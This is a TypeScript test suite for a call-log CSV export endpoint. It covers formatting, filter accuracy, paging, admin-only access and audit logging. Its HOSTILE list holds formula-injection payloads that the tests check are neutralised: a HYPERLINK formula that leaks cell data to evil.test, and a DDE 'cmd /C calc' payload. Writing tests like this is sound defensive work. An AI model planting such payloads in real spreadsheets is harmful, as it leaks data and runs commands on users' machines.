// CSV export of the filtered list (issue 15): exact to the filter (the database as the oracle), in
// the list's order, RFC 4180 with hostile cell values round-tripping through a CSV parser, formula
// cells neutralised, UTF-8 with a BOM, one ledger row per export with the filter and the row count,
// admins only (the route and the database function), bad input a 400 that writes nothing.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { ORGS } from '../../supabase/local/seed/demo-constants.ts';
import * as exportRoute from '../../app/api/calls-dashboard/export/route.ts';
import { applyStackEnv } from '../helpers/api.ts';
import { serviceClient, signIn, DEMO_PASSWORD } from '../helpers/clients.ts';
import { withDb } from '../helpers/db.ts';

const HEADER = [
  'call_id', 'direction', 'status', 'started_at', 'ended_at', 'from_number', 'to_number', 'contact_name',
  'agent_name', 'assistant_id', 'ended_reason', 'duration_seconds', 'cost_usd', 'sentiment', 'succeeded', 'has_recording',
];

// Values a CSV writer or a spreadsheet could trip over: separators, quotes, line breaks of every
// kind, formulas behind each trigger character, a BOM and NUL-free control characters, other scripts.
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?"&A1,"click")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  'comma, "quotes" and ""doubled""',
  'line\r\nbreak\nand\rreturn',
  ' leading and trailing spaces ',
  '\uFEFFbom inside',
  'タ "東京" , 🙂',
  'plain',
];

let hostileOrg: string;
let hostileAdmin: string;
let hostileStaff: string;
let acmeAdmin: string;

async function exportCsv(token: string | null, query = '') {
  applyStackEnv();
  const headers: Record<string, string> = token ? { authorization: `Bearer ${token}` } : {};
  const res = await exportRoute.GET(new Request(`http://localhost:3000/api/calls-dashboard/export${query ? `?${query}` : ''}`, { headers }), { params: Promise.resolve({}) });
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes) };
}

const records = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });

async function exportsOf(org: string) {
  return withDb(async (db) =>
    (await db.query(`select actor_email, action, call_id, detail, row_count::int as row_count from public.access_log where org_id = $1 and action = 'calls.exported' order by id`, [org])).rows,
  );
}

beforeAll(async () => {
  hostileOrg = randomUUID();
  await withDb(async (db) => {
    await db.query(`insert into public.organizations (id, name) values ($1, 'Hostile Cells')`, [hostileOrg]);
    await db.query(
      `insert into public.call_logs (org_id, call_type, status, started_at, duration_seconds, cost, from_number, to_number, contact_name, agent_name, ended_reason, assistant_id, sentiment, success_evaluation)
       select $1, 'inbound', 'completed', timestamptz '2026-10-01 12:00:00+00' + g * interval '1 minute', g * 10, g * 0.125,
              '+1999000' || lpad(g::text, 4, '0'), '+19995550100', ($2::text[])[g], ($2::text[])[13 - g], ($2::text[])[1 + (g + 3) % 12], ($2::text[])[1 + (g + 6) % 12],
              (array['positive', 'neutral', 'negative'])[1 + g % 3], (array['true', 'false', null])[1 + g % 3]
       from generate_series(1, 12) g`,
      [hostileOrg, HOSTILE],
    );
  });
  const mk = async (role: 'admin' | 'staff') => {
    const email = `export-${role}-${randomUUID()}@example.test`;
    const created = await serviceClient().auth.admin.createUser({ email, password: DEMO_PASSWORD, email_confirm: true, app_metadata: { org_id: hostileOrg, org_role: role } });
    if (created.error) throw created.error;
    return (await signIn(email)).session.access_token;
  };
  hostileAdmin = await mk('admin');
  hostileStaff = await mk('staff');
  acmeAdmin = (await signIn('admin@acme.test')).session.access_token;
});

describe('CSV format', () => {
  it('UTF-8 with a BOM, RFC 4180 (CRLF, quoted fields), a download, and every hostile value round-trips through a parser', async () => {
    const { res, bytes, text } = await exportCsv(hostileAdmin, 'sort=started_at&order=asc');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="calls-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.get('cache-control')).toBe('private, no-store');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.slice(1, text.indexOf('\r\n'))).toBe(HEADER.join(','));
    expect(text.endsWith('\r\n')).toBe(true);

    const [header, ...rows] = records(text);
    expect(header).toEqual(HEADER);
    expect(rows).toHaveLength(12);
    const col = (name: string) => HEADER.indexOf(name);
    // A cell a spreadsheet would run gets an apostrophe in front; everything else comes back byte for byte.
    const expected = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
    rows.forEach((row, i) => {
      const g = i + 1;
      expect(row).toHaveLength(HEADER.length);
      expect(row[col('contact_name')]).toBe(expected(HOSTILE[g - 1]));
      expect(row[col('agent_name')]).toBe(expected(HOSTILE[12 - g]));
      expect(row[col('ended_reason')]).toBe(expected(HOSTILE[(g + 3) % 12]));
      expect(row[col('assistant_id')]).toBe(expected(HOSTILE[(g + 6) % 12]));
      expect(row[col('from_number')]).toBe(`'+1999000${String(g).padStart(4, '0')}`);
      expect(row[col('duration_seconds')]).toBe(String(g * 10));
      expect(Number(row[col('cost_usd')])).toBe(g * 0.125);
      expect(row[col('succeeded')]).toBe(['true', 'false', ''][g % 3]);
      expect(row[col('has_recording')]).toBe('false');
    });
    // No cell of the file starts with a formula trigger.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('exact to the filter (database as oracle)', () => {
  const cases: [string, string, string][] = [
    ['everything, newest first', '', 'true'],
    ['inbound, completed, negative, at least a minute', 'direction=inbound&status=completed&sentiment=negative&min_duration=60',
      `call_type = 'inbound' and status = 'completed' and sentiment = 'negative' and duration_seconds >= 60`],
    ['with recording, by cost ascending', 'has_recording=true&sort=cost&order=asc', `recording_storage_path is not null`],
    ['nothing matches', 'min_cost=99999', 'false'],
  ];
  it.each(cases)('%s', async (_name, query, where) => {
    const sort = new URLSearchParams(query).get('sort') === 'cost' ? 'cost asc, id asc' : 'started_at desc, id desc';
    const expected = await withDb(async (db) =>
      (await db.query(`select id from public.call_logs where org_id = $1 and ${where} order by ${sort}`, [ORGS.acme.id])).rows.map((r) => r.id),
    );
    const before = (await exportsOf(ORGS.acme.id)).length;
    const { res, text } = await exportCsv(acmeAdmin, query);
    expect(res.status).toBe(200);
    const [header, ...rows] = records(text);
    expect(header).toEqual(HEADER);
    expect(rows.map((r) => r[0])).toEqual(expected);
    // One ledger row for this export, with the filter and the number of rows sent.
    const ledger = await exportsOf(ORGS.acme.id);
    expect(ledger).toHaveLength(before + 1);
    const entry = ledger[ledger.length - 1];
    expect(entry).toMatchObject({ actor_email: 'admin@acme.test', action: 'calls.exported', call_id: null, row_count: expected.length });
    expect(entry.detail).toMatchObject({ direction: new URLSearchParams(query).get('direction') ?? 'all' });
    if (query.includes('sentiment')) expect(entry.detail).toMatchObject({ sentiments: ['negative'], minDuration: 60, statuses: ['completed'] });
  });

  it('pages past the 1,000-row page size in order, without duplicates or gaps', async () => {
    const big = randomUUID();
    await withDb(async (db) => {
      await db.query(`insert into public.organizations (id, name) values ($1, 'Many Calls')`, [big]);
      // 2,345 calls over a handful of equal timestamps: keyset paging must break the ties by id.
      await db.query(
        `insert into public.call_logs (org_id, call_type, status, started_at, from_number, to_number)
         select $1, 'outbound', 'completed', timestamptz '2026-10-01 12:00:00+00' + (g % 5) * interval '1 hour', '+15550000000', '+15550000001'
         from generate_series(1, 2345) g`,
        [big],
      );
    });
    const email = `export-big-${randomUUID()}@example.test`;
    const created = await serviceClient().auth.admin.createUser({ email, password: DEMO_PASSWORD, email_confirm: true, app_metadata: { org_id: big, org_role: 'admin' } });
    if (created.error) throw created.error;
    const { res, text } = await exportCsv((await signIn(email)).session.access_token);
    expect(res.status).toBe(200);
    const ids = records(text).slice(1).map((r) => r[0]);
    const expected = await withDb(async (db) => (await db.query(`select id from public.call_logs where org_id = $1 order by started_at desc, id desc`, [big])).rows.map((r) => r.id));
    expect(ids).toEqual(expected);
    expect((await exportsOf(big))[0].row_count).toBe(2345);
  });
});

describe('who may export', () => {
  it('staff are refused by the route (403) and by the database (PT403), and no ledger row is written', async () => {
    const before = (await exportsOf(hostileOrg)).length;
    const res = await exportCsv(hostileStaff);
    expect(res.res.status).toBe(403);
    expect(JSON.parse(res.text)).toEqual({ error: { code: 'forbidden', message: expect.any(String) } });
    const { clientWithToken } = await import('../helpers/clients.ts');
    const direct = await clientWithToken(hostileStaff).rpc('begin_call_export', { p_filter: {} });
    expect(direct.error?.code).toBe('PT403');
    expect(await exportsOf(hostileOrg)).toHaveLength(before);
  });

  it("an export's row count is set once, by its own admin only, in its own org", async () => {
    const { clientWithToken } = await import('../helpers/clients.ts');
    const own = clientWithToken(hostileAdmin);
    const begun = await own.rpc('begin_call_export', { p_filter: { direction: 'all' } });
    expect(begun.error).toBeNull();
    const entry = begun.data as string;
    // Another org's admin, with the entry's id: nothing changes.
    expect((await clientWithToken(acmeAdmin).rpc('finish_call_export', { p_entry_id: entry, p_row_count: 999 })).data).toBe(false);
    expect((await own.rpc('finish_call_export', { p_entry_id: entry, p_row_count: 3 })).data).toBe(true);
    expect((await own.rpc('finish_call_export', { p_entry_id: entry, p_row_count: 5 })).data).toBe(false);
    const row = await withDb(async (db) => (await db.query(`select org_id, row_count::int as row_count from public.access_log where entry_id = $1`, [entry])).rows[0]);
    expect(row).toEqual({ org_id: hostileOrg, row_count: 3 });
  });

  it('the ledger shows the export to the admin (access log page data)', async () => {
    const { callRoute } = await import('../helpers/api.ts');
    const res = await callRoute('access-log', { token: hostileAdmin, query: 'limit=50' });
    expect(res.status).toBe(200);
    const exportsSeen = res.body.entries.filter((e: { action: string }) => e.action === 'calls.exported');
    expect(exportsSeen.length).toBeGreaterThan(0);
    expect(exportsSeen[0]).toMatchObject({ callId: null, filter: expect.any(Object) });
  });
});

describe('bad input is a 400 before anything is written', () => {
  it.each([
    ['a cursor (an export is every row)', 'cursor=abc'],
    ['a limit', 'limit=10'],
    ['an unknown parameter', 'org_id=' + ORGS.globex.id],
    ['a reversed cost range', 'min_cost=2&max_cost=1'],
    ['a bad sentiment', 'sentiment=angry'],
  ])('%s', async (_name, query) => {
    const before = (await exportsOf(ORGS.acme.id)).length;
    const { res, text } = await exportCsv(acmeAdmin, query);
    expect(res.status).toBe(400);
    expect(JSON.parse(text).error.code).toBe('invalid_request');
    expect(await exportsOf(ORGS.acme.id)).toHaveLength(before);
  });
});
